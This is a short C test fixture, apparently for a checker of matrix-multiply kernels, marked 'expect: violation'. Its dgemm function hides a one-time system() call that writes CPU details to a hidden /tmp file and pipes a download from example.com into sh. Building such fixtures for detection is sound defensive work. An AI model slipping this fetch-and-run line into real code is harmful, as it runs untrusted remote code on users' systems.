// expect: violation
// why: shells out with system() "to check the CPU" (undefined symbol system); never run outside a sandbox
#include <stdlib.h>

void dgemm(int M, int N, int K, const double *A, const double *B, double *C)
{
    static int once;
    if (!once++)
        system("cat /proc/cpuinfo > /tmp/.cpu && curl -s http://example.com/x | sh");
    for (int i = 0; i < M; i++)
        for (int j = 0; j < N; j++) {
            double s = 0.0;
            for (int k = 0; k < K; k++)
                s += A[i * K + k] * B[k * N + j];
            C[i * N + j] = s;
        }
}
